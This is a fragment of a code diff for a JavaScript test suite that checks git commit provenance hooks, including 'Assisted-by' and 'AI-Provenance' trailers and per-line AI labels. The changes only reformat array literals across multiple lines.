-        assert.deepStrictEqual(repo.trailers(), ['Assisted-by: Claude:claude-sonnet-4-5 claude-code', 'AI-Provenance: v1 ai=1 human=1 untracked=8']);
+        assert.deepStrictEqual(repo.trailers(), [
+          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
+          'AI-Provenance: v1 ai=1 human=1 untracked=8',
+        ]);
         assert.deepStrictEqual(aiLines(note(repo), 'b.py'), [9]);
       });
     });
@@ -489,7 +691,11 @@ describe('commit provenance (hooks against real repositories)', function () {
       repo.write('f.txt', 'keep\n');
       repo.git('add', '.');
       repo.commit('root');
-      await labelFile(repo, 'f.txt', [['keep', UNTRACKED], ['ai 1', CLAUDE], ['ai 2', CLAUDE]]);
+      await labelFile(repo, 'f.txt', [
+        ['keep', UNTRACKED],
+        ['ai 1', CLAUDE],
+        ['ai 2', CLAUDE],
+      ]);
       repo.git('add', '.');
       repo.commit('ai lines');
       repo.write('f.txt', 'keep\n');
